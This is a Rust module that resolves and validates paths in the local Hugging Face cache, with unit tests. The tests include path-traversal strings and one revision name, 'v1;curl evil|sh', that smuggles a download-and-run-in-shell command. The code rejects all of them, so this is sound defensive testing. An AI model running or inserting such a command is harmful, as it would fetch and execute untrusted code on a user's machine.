//! The Hugging Face cache on this disk, shared with every program that uses it: where it is, how a repository lies in it, what is
//! there. Knows no network; [`crate::hub`] fills it.

use std::path::{Path, PathBuf};
use thiserror::Error;

/// What data of the hub are called in a spec, before their id.
pub const DATA_PREFIX: &str = "hub:";
/// The revision that is meant where none is named.
pub const MAIN: &str = "main";

/// Why a name cannot be one of a repository.
#[derive(Clone, Debug, Error, PartialEq, Eq)]
#[error("{found:?} is no {what} of the hub; expected {expected}")]
pub struct NameError {
    pub found: String,
    pub what: &'static str,
    pub expected: &'static str,
}

/// What a repository holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    Model,
    Dataset,
}

impl Kind {
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Model => "model",
            Kind::Dataset => "dataset",
        }
    }
}

/// The cache's folder.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Cache {
    root: PathBuf,
}

impl Cache {
    pub fn at(root: PathBuf) -> Self {
        Self { root }
    }

    /// HF_HUB_CACHE, then HF_HOME, then the XDG cache folder, then `~/.cache`, as the hub's own programs look for it.
    pub fn from_environment() -> Self {
        let variable = |name: &str| std::env::var_os(name).filter(|v| !v.is_empty()).map(PathBuf::from);
        let named = variable("HF_HUB_CACHE").or_else(|| variable("HUGGINGFACE_HUB_CACHE"));
        Self { root: named.unwrap_or_else(|| home().join("hub")) }
    }

    pub fn root(&self) -> &Path {
        &self.root
    }

    /// A repository at a revision: `NAME` or `ORGANISATION/NAME`, and a branch, a tag or a commit.
    pub fn repo(&self, kind: Kind, id: &str, revision: &str) -> Result<Repo, NameError> {
        check_id(id)?;
        check_revision(revision)?;
        Ok(Repo { cache: self.clone(), kind, id: id.into(), revision: revision.into() })
    }

    /// Repositories that are here at each revision that has a name here, and at each commit that has none; whole or not.
    pub fn repos(&self) -> Vec<Repo> {
        let entries = std::fs::read_dir(&self.root).into_iter().flatten().flatten();
        entries.filter_map(|e| Some(self.revisions(&e.file_name().into_string().ok()?))).flatten().collect()
    }

    /// The revisions of the repository that lies in this folder of the cache.
    fn revisions(&self, folder: &str) -> Vec<Repo> {
        let (kind, name) = match folder.split_once("--") {
            Some(("models", name)) => (Kind::Model, name),
            Some(("datasets", name)) => (Kind::Dataset, name),
            _ => return Vec::new(),
        };
        let id = name.replacen("--", "/", 1);
        let at = |revision: &str| self.repo(kind, &id, revision).ok();
        let Some(main) = at(MAIN) else { return Vec::new() };
        let names = walk(&main.folder().join("refs")).into_iter().map(|(name, _)| name);
        let mut all: Vec<Repo> = names.filter_map(|name| at(&name)).filter(|r| r.fetched().is_some()).collect();
        let named: Vec<String> = all.iter().filter_map(Repo::commit).collect();
        let snapshots = std::fs::read_dir(main.folder().join("snapshots")).into_iter().flatten().flatten();
        let commits = snapshots.filter_map(|e| e.file_name().into_string().ok());
        let nameless = commits.filter(|c| is_hex(c, 40) && !named.contains(c));
        all.extend(nameless.filter_map(|commit| at(&commit)).filter(|r| r.fetched().is_some()));
        all
    }
}

/// Folder of the hub's programs, where the token is kept too.
pub fn home() -> PathBuf {
    let variable = |name: &str| std::env::var_os(name).filter(|v| !v.is_empty()).map(PathBuf::from);
    variable("HF_HOME").unwrap_or_else(|| {
        let cache = variable("XDG_CACHE_HOME").or_else(|| Some(variable("HOME")?.join(".cache")));
        cache.unwrap_or_else(std::env::temp_dir).join("huggingface")
    })
}

/// `ID` or `ID@REVISION`, as a model is named in a spec.
pub fn split(name: &str) -> (&str, &str) {
    name.split_once('@').unwrap_or((name, MAIN))
}

/// The same way back.
pub fn join(id: &str, revision: &str) -> String {
    if revision == MAIN { id.into() } else { format!("{id}@{revision}") }
}

/// The commit whose snapshot a folder is.
pub fn commit_of(folder: &Path) -> Option<String> {
    let inside = folder.parent().is_some_and(|p| p.file_name().is_some_and(|n| n == "snapshots"));
    let name = folder.file_name()?.to_str()?;
    (inside && is_hex(name, 40)).then(|| name.to_string())
}

/// So many hexadecimal digits.
pub fn is_hex(text: &str, digits: usize) -> bool {
    text.len() == digits && text.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
}

/// A name that stays inside the folder it is put in: parts between slashes, none of which is empty, `.`, `..` or a root; and that
/// looks as it is.
pub fn stays_inside(name: &str) -> bool {
    let sound = |part: &str| !matches!(part, "" | "." | "..") && !part.contains(['\\', ':', '\0']);
    name.len() <= 512 && name.split('/').all(sound) && crate::untrusted::harmless(name) == name
}

fn check_id(id: &str) -> Result<(), NameError> {
    let letter = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    let sound = |part: &str| {
        !part.is_empty() && part.chars().all(letter) && !part.starts_with(['.', '-']) && !part.ends_with(['.', '-'])
    };
    let parts: Vec<&str> = id.split('/').collect();
    if id.len() <= 96 && parts.len() <= 2 && parts.iter().all(|p| sound(p)) && !id.contains("..") && !id.contains("--")
    {
        return Ok(());
    }
    Err(NameError { found: id.into(), what: "id", expected: "NAME or ORGANISATION/NAME, such as roberta-base" })
}

fn check_revision(revision: &str) -> Result<(), NameError> {
    if stays_inside(revision) && !revision.starts_with('-') {
        return Ok(());
    }
    Err(NameError { found: revision.into(), what: "revision", expected: "a branch, a tag or a commit" })
}

/// A repository at a revision, and where its parts are or would be.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Repo {
    cache: Cache,
    pub kind: Kind,
    pub id: String,
    pub revision: String,
}

impl Repo {
    fn layout(&self) -> hf_hub::Repo {
        let kind = match self.kind {
            Kind::Model => hf_hub::RepoType::Model,
            Kind::Dataset => hf_hub::RepoType::Dataset,
        };
        hf_hub::Repo::with_revision(self.id.clone(), kind, self.revision.clone())
    }

    pub fn folder(&self) -> PathBuf {
        self.cache.root.join(self.layout().folder_name())
    }

    /// The content of a file whose hash is `etag`.
    pub fn blob(&self, etag: &str) -> PathBuf {
        self.folder().join("blobs").join(etag)
    }

    /// Whoever fetches that content holds this file's lock.
    pub fn lock(&self, etag: &str) -> PathBuf {
        self.cache.root.join(".locks").join(self.layout().folder_name()).join(format!("{etag}.lock"))
    }

    /// Says which commit the revision is.
    pub fn reference(&self) -> PathBuf {
        self.folder().join("refs").join(&self.revision)
    }

    pub fn snapshot(&self, commit: &str) -> PathBuf {
        hf_hub::Cache::new(self.cache.root.clone()).repo(self.layout()).pointer_path(commit)
    }

    /// The commit that the revision was when it was last fetched.
    pub fn commit(&self) -> Option<String> {
        if is_hex(&self.revision, 40) {
            return Some(self.revision.clone());
        }
        let text = std::fs::read_to_string(self.reference()).ok()?;
        Some(text.trim().to_string()).filter(|commit| is_hex(commit, 40))
    }

    /// `ID` or `ID@REVISION`, as a spec names it.
    pub fn name(&self) -> String {
        join(&self.id, &self.revision)
    }

    /// The same where it can be offered for pasting into a shell: a branch may have any character in its name.
    pub fn pasted(&self) -> Option<String> {
        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/' | '@');
        Some(self.name()).filter(|name| name.chars().all(plain))
    }

    /// The folder of the files at the revision, where they were fetched.
    pub fn fetched(&self) -> Option<PathBuf> {
        Some(self.snapshot(&self.commit()?)).filter(|folder| folder.is_dir())
    }
}

/// Files below a folder with their bytes, by name; two folders deep at most.
pub fn walk(folder: &Path) -> Vec<(String, u64)> {
    fn below(folder: &Path, prefix: &str, found: &mut Vec<(String, u64)>) {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
            let Ok(name) = entry.file_name().into_string() else { continue };
            // Follows the link to the content; one that leads nowhere is no file.
            let Ok(about) = std::fs::metadata(entry.path()) else { continue };
            let name = format!("{prefix}{name}");
            if about.is_file() {
                found.push((name, about.len()));
            } else if prefix.matches('/').count() < 2 {
                below(&entry.path(), &format!("{name}/"), found);
            }
        }
    }
    let mut found = Vec::new();
    below(folder, "", &mut found);
    found.sort();
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_would_leave_the_cache_are_refused() {
        let cache = Cache::at("/cache".into());
        for id in ["", "..", "../x", "a/b/c", "/etc", "a/..", "a b", "a--b", "-x", "a\\b", "a/.b"] {
            assert!(cache.repo(Kind::Model, id, MAIN).is_err(), "{id:?}");
        }
        for revision in ["", "..", "a/../../b", "/x", "a//b", "a\nb", "-f"] {
            assert!(cache.repo(Kind::Model, "a", revision).is_err(), "{revision:?}");
        }
        for name in ["../x", "/x", "a/../../x", "a//b", "c:\\x", "a\u{1b}[2J", "a\u{202e}b"] {
            assert!(!stays_inside(name), "{name:?}");
        }
        assert!(stays_inside("sst2/train-00000-of-00001.parquet"));
    }

    #[test]
    fn paths_are_those_of_the_hubs_own_programs() {
        let repo = Cache::at("/c".into()).repo(Kind::Dataset, "nyu-mll/glue", "refs/pr/1").expect("a name");
        let commit = "a".repeat(40);
        assert_eq!(repo.snapshot(&commit), Path::new("/c/datasets--nyu-mll--glue/snapshots").join(&commit));
        assert_eq!(repo.reference(), Path::new("/c/datasets--nyu-mll--glue/refs/refs/pr/1"));
        assert_eq!(repo.lock("e"), Path::new("/c/.locks/datasets--nyu-mll--glue/e.lock"));
        assert_eq!(commit_of(&repo.snapshot(&commit)), Some(commit));
        assert_eq!(split("a/b@v1"), ("a/b", "v1"));
        let named = |revision: &str| Cache::at("/c".into()).repo(Kind::Model, "o/m", revision).expect("a name");
        assert_eq!([MAIN, "v1/x"].map(|r| named(r).pasted()), [Some("o/m".into()), Some("o/m@v1/x".into())]);
        assert_eq!(named("v1;curl evil|sh").pasted(), None, "no shell gets that");
    }
}
